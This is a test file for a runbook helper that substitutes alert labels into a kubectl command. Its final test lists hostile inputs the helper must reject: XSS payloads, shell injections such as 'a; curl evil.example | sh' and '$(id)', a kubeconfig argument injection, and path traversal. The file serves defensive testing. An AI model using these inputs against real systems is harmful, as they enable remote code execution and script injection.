import { describe, expect, it } from 'vitest';
import { withLabels } from './runbook.js';

const COMMAND = '<code>kubectl -n $NAMESPACE logs $POD</code>';

describe('the names that a runbook leaves open', () => {
  it('are those of the alert', () => {
    expect(withLabels(COMMAND, { namespace: 'notes', pod: 'notes-7d9f-x2x' })).toBe(
      '<code>kubectl -n notes logs notes-7d9f-x2x</code>',
    );
  });

  it.each(['10.0.0.7:9464', 'team/notes', '/var/lib/data', 'notes_2.internal'])('may be %s', (namespace) => {
    expect(withLabels('$NAMESPACE', { namespace })).toBe(namespace);
  });

  it('stay open where the alert does not say them, also those that every object has', () => {
    expect(withLabels(`${COMMAND} $CONSTRUCTOR`, {})).toBe(`${COMMAND} $CONSTRUCTOR`);
  });

  it.each([
    '<img src=x onerror=alert(1)>',
    '"onmouseover="alert(1)',
    '&lt;b&gt;',
    '[a](javascript:alert(1))',
    'a b',
    'a; curl evil.example | sh',
    '`id`',
    '$(id)',
    '$POD',
    '--kubeconfig=/tmp/x',
    '../x',
    'https://evil.example/x',
    '//evil.example',
    'a\nb',
    '',
  ])('stay open where a server says what is no name: %j', (value) => {
    expect(withLabels(COMMAND, { namespace: value, pod: value })).toBe(COMMAND);
  });
});
